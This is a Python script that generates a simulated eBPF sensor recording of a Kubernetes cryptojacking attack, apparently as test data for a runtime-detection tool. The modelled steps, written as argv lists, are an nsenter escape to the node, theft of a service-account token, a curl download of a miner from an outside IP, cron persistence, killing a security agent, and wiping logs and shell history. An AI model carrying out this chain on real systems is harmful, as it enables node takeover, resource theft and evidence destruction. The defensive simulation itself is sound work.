#!/usr/bin/env python3
"""Writes cryptojacking-runtime.jsonl: what Palisade's eBPF sensor on node worker-1 recorded
(`palisade watch --record`, palisade.runtime/v1) while the attack of ../audit/ went on. Our
own data, consistent with ../audit/make_attack_log.py: same pod, namespace, node and clock.

The story, seen from the node (times after 2026-11-26 10:00:00 UTC, as in the audit log):

  10:03:00  the stolen `shop/ci` token creates pod shop/kube-proxy-7xk2p: privileged, hostPID,
            hostNetwork, the node's / mounted at /host (audit log only; the recording starts
            at 10:03:15, the pod's `sleep infinity` already running)
  10:03:30  `kubectl exec -it kube-proxy-7xk2p -- nsenter -t 1 -m -u -i -n -p sh`: runc starts
            nsenter in the container, nsenter joins pid 1's namespaces (setns) and starts a
            root shell on the node, still in the pod's cgroup, so still attributed to the pod
  10:03:43  the shell reads a fresh shop/ci service-account token from the kubelet's volume
            directory of the CI runner's pod (the stolen one is a bound token and expires)
  10:03:56  the miner is downloaded with curl from 203.0.113.80 and made executable; at
            10:04:11 it starts as `kswapd0` (a kernel thread's name) against
            stratum+tcp://pool.example.net:3333, resolves the pool and connects
  10:04:22  a cron entry on the node restarts it; a security agent is killed; the node's logs
            and root's shell history are wiped; the shell exits, the miner keeps running

Around it, the node's ordinary activity that must stay quiet: the monitoring agent
(monitoring/node-agent-w8fk2, privileged, hostPID) re-reading its own token and asking
containerd for container metadata, and the runtime (runc) serving the exec.

Every event is built the way crates/palisade-runtime/src/tracker.rs builds it from the
kernel's records: a process table (fork, exec, exit) gives each event its ancestors, parent
first; exec sets name/exe/exepath/args; opens and unlinks fill `fd` and `flags`/`mode`/`name`;
setns names the namespace type and says whether the target is one of the host's namespaces
(and not one the process is already in); connects fill the destination. Keys are written in
the order serde writes them, so each line is byte for byte what `palisade watch --record`
writes.

Run: python3 examples/runtime/make_runtime_recording.py  (rewrites the .jsonl next to it)
"""
import json
import os

START_NS = 1_795_687_200_000_000_000  # 2026-11-26T10:00:00Z, the audit log's START
HOST = "worker-1"

# The node's own namespaces (pid 1's).
HOST_NS = {"pid": 4026531836, "mnt": 4026531841, "net": 4026531840, "uts": 4026531838,
           "ipc": 4026531839, "cgroup": 4026531835, "user": 4026531837}

# The attacker's pod, as the audit log creates it: shop/kube-proxy-7xk2p, container
# kube-proxy, docker.io/library/alpine:latest, privileged, hostPID, hostNetwork (so its pid
# and net namespaces are the host's), host / at /host. Runs as service account shop/ci; the
# CRI does not report service accounts, so the sensor's metadata has none.
POD_UID = "6f1d3c2a-8b4e-4f5a-9c7d-1e2f3a4b5c6d"
CID = "3f2a9c1b7d4e8a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b"
ATTACK_POD = {
    "id": CID, "runtime": "containerd", "name": "kube-proxy",
    "image": "docker.io/library/alpine:latest",
    "labels": {"io.kubernetes.container.name": "kube-proxy",
               "io.kubernetes.pod.name": "kube-proxy-7xk2p",
               "io.kubernetes.pod.namespace": "shop",
               "io.kubernetes.pod.uid": POD_UID},
    "pod": {"name": "kube-proxy-7xk2p", "namespace": "shop", "uid": POD_UID, "labels": {}},
}
ATTACK_NS = {"pid": HOST_NS["pid"], "mnt": 4026532771, "net": HOST_NS["net"]}
ATTACK_CGROUP = ("kubepods-besteffort-pod" + POD_UID.replace("-", "_") + ".slice/"
                 f"cri-containerd-{CID}.scope")

# The monitoring DaemonSet's pod on this node (examples/kubernetes/node-agent.yaml).
AGENT_UID = "5d0c2b7e-91a4-4c3f-b6e8-7a2d9f41c0b3"
AGENT_CID = "a81f3e6c0b9d4a27e5c8f1b3d6a09e4c7b2f5d8a1e3c6b9f0d2a4e7c1b5f8d3a"
AGENT_POD = {
    "id": AGENT_CID, "runtime": "containerd", "name": "agent",
    "image": "registry.example.com/ops/node-agent:2.3.1",
    "labels": {"io.kubernetes.container.name": "agent",
               "io.kubernetes.pod.name": "node-agent-w8fk2",
               "io.kubernetes.pod.namespace": "monitoring",
               "io.kubernetes.pod.uid": AGENT_UID},
    "pod": {"name": "node-agent-w8fk2", "namespace": "monitoring", "uid": AGENT_UID,
            "labels": {"app": "node-agent", "controller-revision-hash": "6c9f8d7b54",
                       "pod-template-generation": "1"}},
}
AGENT_NS = {"pid": HOST_NS["pid"], "mnt": 4026532402, "net": HOST_NS["net"]}
AGENT_CGROUP = ("kubepods-burstable-pod" + AGENT_UID.replace("-", "_") + ".slice/"
                f"cri-containerd-{AGENT_CID}.scope")

# The CI runner's pod on this node (examples/kubernetes/ci-runner.yaml, service account
# shop/ci): the kubelet keeps its projected token fresh in the pod's volume directory.
CI_RUNNER_UID = "c2e8a4f1-6b3d-4e9a-8f7c-0d5b2a9e6c14"
CI_TOKEN_DIR = (f"/var/lib/kubelet/pods/{CI_RUNNER_UID}/volumes/kubernetes.io~projected/"
                "kube-api-access-9qkzt")

SHIM_CGROUP = "system.slice/containerd.service"

# Every process here is root with every capability (privileged pods, the node's daemons):
# CAP_CHOWN .. CAP_CHECKPOINT_RESTORE (40) on this 6.8 kernel.
CAP_ALL = (1 << 41) - 1
# `kubectl exec -it`: runc gives the process a terminal, /dev/pts/0 of the container's
# devpts (major 136), which nsenter and the shell's children inherit.
PTS0 = 136 << 8

# Open flags (Linux x86-64) and their names, in names::open_flags order.
O_RDONLY, O_WRONLY, O_CREAT, O_TRUNC, O_APPEND, O_CLOEXEC = 0, 1, 0o100, 0o1000, 0o2000, 0o2000000
FLAG_NAMES = [(0o100, "O_CREAT"), (0o200, "O_EXCL"), (0o400, "O_NOCTTY"), (0o1000, "O_TRUNC"),
              (0o2000, "O_APPEND"), (0o4000, "O_NONBLOCK"), (0o200000, "O_DIRECTORY"),
              (0o400000, "O_NOFOLLOW"), (0o2000000, "O_CLOEXEC"), (0o20000000, "O_TMPFILE")]
CLONE_NEWNS, CLONE_NEWUTS, CLONE_NEWIPC, CLONE_NEWPID, CLONE_NEWNET = (
    0x00020000, 0x04000000, 0x08000000, 0x20000000, 0x40000000)
NS_NAMES = {CLONE_NEWNS: "CLONE_NEWNS", CLONE_NEWUTS: "CLONE_NEWUTS",
            CLONE_NEWIPC: "CLONE_NEWIPC", CLONE_NEWPID: "CLONE_NEWPID",
            CLONE_NEWNET: "CLONE_NEWNET"}


def open_flags(flags):
    access = ["O_RDONLY", "O_WRONLY", "O_RDWR", "O_ACCMODE"][flags & 3]
    rest = [name for bit, name in FLAG_NAMES if flags & bit == bit]
    return "|".join([access] + rest)


class Task:
    """What the kernel side reports in every record's header, for one process."""

    def __init__(self, pid, ppid, comm, container, ns, cgroup, tid=None, tty=0):
        self.pid, self.ppid, self.comm = pid, ppid, comm
        self.tid, self.tty = tid or pid, tty
        self.container, self.ns, self.cgroup = container, dict(ns), cgroup


class Tracker:
    """The process table of palisade-runtime's Tracker, and its event builder."""

    def __init__(self):
        self.procs = {}  # pid -> dict(ppid, name, exe, exepath, args, exe_ino)
        self.num = 0
        self.events = []

    def seed(self, pid, ppid, name, exe, exepath, args, exe_ino):
        self.procs[pid] = dict(ppid=ppid, name=name, exe=exe, exepath=exepath, args=args,
                               exe_ino=exe_ino)

    def ancestors(self, ppid):
        out = []
        while ppid != 0 and len(out) < 8:
            p = self.procs.get(ppid)
            if p is None:
                break
            out.append({"pid": ppid, "name": p["name"], "exepath": p["exepath"], "exe": p["exe"],
                        "cmdline": " ".join([p["name"]] + p["args"])[:512]})
            if p["ppid"] == ppid:
                break
            ppid = p["ppid"]
        return out

    def emit(self, t, evt_type, task, fd=None, args=None, res=None):
        self.num += 1
        info = self.procs.get(task.pid, dict(name=task.comm, exe="", exepath="", args=[],
                                             exe_ino=0))
        proc = {"pid": task.pid, "tid": task.tid, "ppid": task.ppid, "vpid": task.pid,
                "uid": 0, "gid": 0, "euid": 0, "user": "root", "comm": task.comm,
                "name": info["name"], "exe": info["exe"], "exepath": info["exepath"],
                "args": list(info["args"]), "fileless": False, "exe_ino": info["exe_ino"],
                "pid_ns": task.ns["pid"], "mnt_ns": task.ns["mnt"], "net_ns": task.ns["net"],
                "cgroup": task.cgroup, "tty": task.tty, "cap_effective": CAP_ALL}
        event = {"num": self.num, "time_ns": START_NS + round(t * 1e9), "type": evt_type,
                 "proc": proc}
        ancestors = self.ancestors(task.ppid)
        if ancestors:
            event["ancestors"] = ancestors
        if task.container is not None:
            event["container"] = task.container
        if fd is not None:
            event["fd"] = fd
        if args:
            event["args"] = dict(sorted(args.items()))
        if res is not None:
            event["res"] = res
        event["hostname"] = HOST
        self.events.append(event)

    # --- the record kinds -----------------------------------------------------------------

    def execve(self, t, task, filename, exepath, argv, exe_ino):
        task.comm = os.path.basename(filename)[:15]
        self.procs[task.pid] = dict(ppid=task.ppid, name=task.comm, exe=argv[0], exepath=exepath,
                                    args=argv[1:], exe_ino=exe_ino)
        self.emit(t, "execve", task, args={"filename": filename}, res=0)

    def fork(self, t, task, child_pid):
        """The parent's clone; returns the child's task (same comm, container, namespaces)."""
        self.emit(t, "clone", task, args={"child_pid": str(child_pid)}, res=child_pid)
        child = dict(self.procs.get(task.pid, {}))
        child["ppid"] = task.pid
        self.procs[child_pid] = child
        return Task(child_pid, task.pid, task.comm, task.container, task.ns, task.cgroup,
                    tty=task.tty)

    def exit(self, t, task, status=0):
        self.emit(t, "procexit", task, args={"status": str(status)})
        self.procs.pop(task.pid, None)

    def open(self, t, task, path, flags, mode=0, ret=3):
        acc = flags & 3
        fd = {"num": ret, "type": "file", "name": path, "server": False,
              "read": acc in (0, 2), "write": acc in (1, 2) or bool(flags & (O_CREAT | O_TRUNC))}
        self.emit(t, "openat", task, fd=fd,
                  args={"flags": open_flags(flags), "mode": "0o%o" % mode, "name": path}, res=ret)

    def unlink(self, t, task, path, ret=0):
        fd = {"num": -1, "type": "file", "name": path, "server": False, "read": False,
              "write": True}
        self.emit(t, "unlinkat", task, fd=fd, args={"name": path}, res=ret)

    def setns(self, t, task, fd, nstype, target):
        into_host = (target in HOST_NS.values()
                     and target not in (task.ns["pid"], task.ns["mnt"], task.ns["net"]))
        self.emit(t, "setns", task, args={"fd": str(fd), "nstype": NS_NAMES[nstype],
                                          "target_ns": str(target),
                                          "target_is_host": "true" if into_host else "false"})

    def connect(self, t, task, fd, ip, port, proto="tcp", tid=None):
        thread = Task(task.pid, task.ppid, task.comm, task.container, task.ns, task.cgroup,
                      tid=tid, tty=task.tty)
        self.emit(t, "connect", thread, fd={"num": fd, "type": "ipv4", "name": f"->{ip}:{port}",
                                            "dip": ip, "dport": port, "server": False,
                                            "l4proto": proto, "read": True, "write": True})

    def connect_unix(self, t, task, fd, path):
        self.emit(t, "connect", task, fd={"num": fd, "type": "unix", "name": path,
                                          "server": False, "read": True, "write": True})


tr = Tracker()

# Processes that existed when the sensor started (seeded from /proc): systemd, containerd,
# the kube-proxy-7xk2p pod's shim and its `sleep infinity`, the monitoring agent.
tr.seed(1, 0, "systemd", "/sbin/init", "/usr/lib/systemd/systemd", [], 1579301)
tr.seed(871, 1, "containerd", "/usr/bin/containerd", "/usr/bin/containerd", [], 1581044)
SHIM = 48160
tr.seed(SHIM, 1, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
        "/usr/bin/containerd-shim-runc-v2",
        ["-namespace", "k8s.io", "-id",
         "e07b5c3d9a1f4e2b8c6d0a3f5e7b9c1d2e4f6a8b0c1d3e5f7a9b2c4d6e8f0a1b",
         "-address", "/run/containerd/containerd.sock"], 1581093)
tr.seed(48211, SHIM, "sleep", "sleep", "/bin/busybox", ["infinity"], 2228337)
AGENT_SHIM = 3312
tr.seed(AGENT_SHIM, 1, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
        "/usr/bin/containerd-shim-runc-v2",
        ["-namespace", "k8s.io", "-id",
         "9c4e1a7b3d5f8e2c0a6b4d9f1e3c5a7b8d0f2e4c6a9b1d3f5e7c0a2b4d6f8e1c",
         "-address", "/run/containerd/containerd.sock"], 1581093)
tr.seed(3391, AGENT_SHIM, "agent", "/usr/local/bin/agent", "/usr/local/bin/agent",
        ["--config=/etc/node-agent/config.yaml"], 4468021)
agent = Task(3391, AGENT_SHIM, "agent", AGENT_POD, AGENT_NS, AGENT_CGROUP)
shim = Task(SHIM, 1, "containerd-shim", None, HOST_NS, SHIM_CGROUP)


def agent_reads_its_token(t):
    # client-go re-reads the projected token every minute: the application, not a snoop tool
    tr.open(t, agent, "/var/run/secrets/kubernetes.io/serviceaccount/token",
            O_RDONLY | O_CLOEXEC, ret=12)


agent_reads_its_token(195.412)
# The agent asks containerd about containers (an allowed runtime-socket client).
tr.connect_unix(203.118, agent, 14, "/run/containerd/containerd.sock")

# 10:03:30 kubectl exec: the shim runs `runc exec`, runc starts nsenter in the container.
runc = tr.fork(210.391, shim, 48331)
tr.execve(210.392, runc, "/usr/bin/runc", "/usr/bin/runc",
          ["runc", "--root", "/run/containerd/runc/k8s.io", "--log",
           f"/run/containerd/io.containerd.runtime.v2.task/k8s.io/{CID}/log.json",
           "--log-format", "json", "exec", "--process", "/tmp/runc-process2284016712",
           "--console-socket", "/tmp/pty3920577153/pty.sock", "--detach", "--pid-file",
           f"/run/containerd/io.containerd.runtime.v2.task/k8s.io/{CID}/"
           "8b1f0c6e2d4a9e7c3b5d1f0a2c4e6b8d9f1a3c5e7b0d2f4a6c8e1b3d5f7a9c0e.pid", CID],
          1581102)
init = tr.fork(210.398, runc, 48342)
init.container, init.ns, init.cgroup = ATTACK_POD, dict(ATTACK_NS), ATTACK_CGROUP
init.tty = PTS0
nsenter_argv = ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "sh"]
tr.execve(210.414, init, "/usr/bin/nsenter", "/bin/busybox", nsenter_argv, 2228337)
nsenter = init
# nsenter opens pid 1's ns files (fds 3..7) and joins them in util-linux/BusyBox order.
# The pod shares the host's pid and net namespaces already (hostPID, hostNetwork): those
# two are not "into the host".
for i, (nstype, kind) in enumerate([(CLONE_NEWIPC, "ipc"), (CLONE_NEWUTS, "uts"),
                                    (CLONE_NEWNET, "net"), (CLONE_NEWPID, "pid"),
                                    (CLONE_NEWNS, "mnt")]):
    tr.setns(210.4151 + i * 0.0001, nsenter, 3 + i, nstype, HOST_NS[kind])
nsenter.ns["mnt"] = HOST_NS["mnt"]
# -p: the new pid namespace applies to children, so nsenter forks and the child runs sh,
# found on the node's PATH (Ubuntu: /usr/bin/sh -> dash).
shell = tr.fork(210.433, nsenter, 48343)
tr.execve(210.437, shell, "/usr/bin/sh", "/usr/bin/dash", ["sh"], 1572981)
tr.exit(210.462, runc)  # runc exec --detach returns once the process runs
nsenter.ppid = SHIM  # re-parented to the shim, the container's subreaper


def run(t, pid, filename, exepath, argv, ino, status=0, duration=0.004, during=None):
    """The shell forks, the child execs `argv`, does `during(child, t)`, and exits."""
    child = tr.fork(t, shell, pid)
    if during and getattr(during, "before_exec", False):
        during(child, t + 0.0004)
    tr.execve(t + 0.0008, child, filename, exepath, argv, ino)
    if during and not getattr(during, "before_exec", False):
        during(child, t + 0.0012)
    tr.exit(t + duration, child, status)
    return child


# 10:03:36 where am I?
run(216.204, 48355, "/usr/bin/hostname", "/usr/bin/hostname", ["hostname"], 1573005)
# 10:03:43 a fresh shop/ci token: the stolen one is a bound token that expires, the kubelet
# keeps the CI runner pod's current one in its volume directory on this node.
run(223.517, 48361, "/usr/bin/cat", "/usr/bin/cat", ["cat", f"{CI_TOKEN_DIR}/token"], 1572912,
    during=lambda c, t: tr.open(t, c, f"{CI_TOKEN_DIR}/token", O_RDONLY))
# 10:03:56 the miner: downloaded, made executable, started as `kswapd0` in the background.
run(236.102, 48370, "/usr/bin/mkdir", "/usr/bin/mkdir", ["mkdir", "-p", "/var/tmp/.x"], 1572960)
run(238.733, 48377, "/usr/bin/curl", "/usr/bin/curl",
    ["curl", "-fsSL", "-o", "/var/tmp/.x/kswapd0", "http://203.0.113.80:8080/kswapd0"], 1575124,
    duration=3.214, during=lambda c, t: tr.connect(t + 0.011, c, 5, "203.0.113.80", 8080))
run(244.018, 48398, "/usr/bin/chmod", "/usr/bin/chmod", ["chmod", "+x", "/var/tmp/.x/kswapd0"],
    1572917)
MINER_ARGS = ["-o", "stratum+tcp://pool.example.net:3333", "-u", "48bWallet",
              "--cpu-max-threads-hint=90"]
miner = tr.fork(251.306, shell, 48412)
tr.execve(251.307, miner, "/var/tmp/.x/kswapd0", "/var/tmp/.x/kswapd0",
          ["/var/tmp/.x/kswapd0"] + MINER_ARGS + ["-B"], 3932178)
# -B: the miner daemonizes (fork, setsid); the parent returns to the shell
daemon = tr.fork(251.352, miner, 48414)
tr.exit(251.354, miner)
daemon.ppid = SHIM  # re-parented to the shim (the subreaper); the table keeps the old parent
daemon.tty = 0  # setsid(): no controlling terminal
# resolving the pool (glibc through systemd-resolved, from a libuv worker thread), then the
# stratum connection from the main loop
tr.connect(251.419, daemon, 9, "127.0.0.53", 53, proto="udp", tid=48417)
tr.connect(251.447, daemon, 11, "192.0.2.44", 3333)
# 10:04:22 back after a reboot or a kill: a cron entry on the node (`echo ... > file`: the
# shell itself opens the file; echo is a builtin)
tr.open(262.408, shell, "/etc/cron.d/kswapd", O_WRONLY | O_CREAT | O_TRUNC, mode=0o666)
# 10:04:30 blind the sensors it knows about (none is running: pkill exits 1)
run(270.815, 48436, "/usr/bin/pkill", "/usr/bin/pkill", ["pkill", "-9", "-f", "falco"],
    1574231, status=1, duration=0.021)


# 10:04:39 the node's logs: `cat /dev/null > /var/log/syslog` (the child opens the file
# before exec), then `rm -f /var/log/auth.log /root/.bash_history`
def truncate_syslog(child, t):
    tr.open(t, child, "/var/log/syslog", O_WRONLY | O_CREAT | O_TRUNC, mode=0o666)


truncate_syslog.before_exec = True
run(279.522, 48441, "/usr/bin/cat", "/usr/bin/cat", ["cat", "/dev/null"], 1572912,
    during=truncate_syslog)


def remove_files(child, t):
    tr.unlink(t, child, "/var/log/auth.log")
    tr.unlink(t + 0.0002, child, "/root/.bash_history")


run(284.206, 48447, "/usr/bin/rm", "/usr/bin/rm",
    ["rm", "-f", "/var/log/auth.log", "/root/.bash_history"], 1572989, during=remove_files)
# 10:04:49 exit: the shell, then nsenter; the miner keeps running
tr.exit(289.031, shell)
tr.exit(289.033, nsenter)

agent_reads_its_token(255.412)
agent_reads_its_token(315.412)

header = {"schema": "palisade.runtime/v1", "hostname": HOST, "kernel": "6.8.0-49-generic",
          "hooks": ["exec: tp_btf/sched_process_exec", "fork: tp_btf/sched_process_fork",
                    "exit: tracepoint/sched/sched_process_exit",
                    "connect: tracepoint/syscalls/sys_enter_connect",
                    "listen: tracepoint/syscalls/sys_enter_listen",
                    "accept: tracepoint/syscalls/sys_exit_accept",
                    "accept: tracepoint/syscalls/sys_exit_accept4",
                    "open: tracepoint/syscalls/sys_enter_openat + tracepoint/syscalls/sys_exit_openat",
                    "open: tracepoint/syscalls/sys_enter_open + tracepoint/syscalls/sys_exit_open",
                    "open: tracepoint/syscalls/sys_enter_openat2 + tracepoint/syscalls/sys_exit_openat2",
                    "unlink: tracepoint/syscalls/sys_enter_unlinkat + tracepoint/syscalls/sys_exit_unlinkat",
                    "setns: tracepoint/syscalls/sys_enter_setns",
                    "unshare: tracepoint/syscalls/sys_enter_unshare",
                    "mount: tracepoint/syscalls/sys_enter_mount",
                    "ptrace: tracepoint/syscalls/sys_enter_ptrace",
                    "memfd_create: tracepoint/syscalls/sys_enter_memfd_create",
                    "setuid: tracepoint/syscalls/sys_enter_setuid",
                    "setuid: tracepoint/syscalls/sys_enter_setreuid",
                    "setuid: tracepoint/syscalls/sys_enter_setresuid",
                    "setgid: tracepoint/syscalls/sys_enter_setgid",
                    "setgid: tracepoint/syscalls/sys_enter_setregid",
                    "setgid: tracepoint/syscalls/sys_enter_setresgid",
                    "capset: tracepoint/syscalls/sys_enter_capset",
                    "init_module: tracepoint/syscalls/sys_enter_init_module",
                    "finit_module: tracepoint/syscalls/sys_enter_finit_module",
                    "bpf: tracepoint/syscalls/sys_enter_bpf"],
          "unavailable": [], "mode": "ebpf"}

# The sensor numbers events in the order it reads them: by time.
events = sorted(tr.events, key=lambda e: e["time_ns"])
for n, e in enumerate(events, 1):
    e["num"] = n
out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "cryptojacking-runtime.jsonl")
with open(out, "w") as f:
    f.write(json.dumps(header, separators=(",", ":")) + "\n")
    for e in events:
        f.write(json.dumps(e, separators=(",", ":")) + "\n")
print(f"wrote {len(events)} events to {out}")
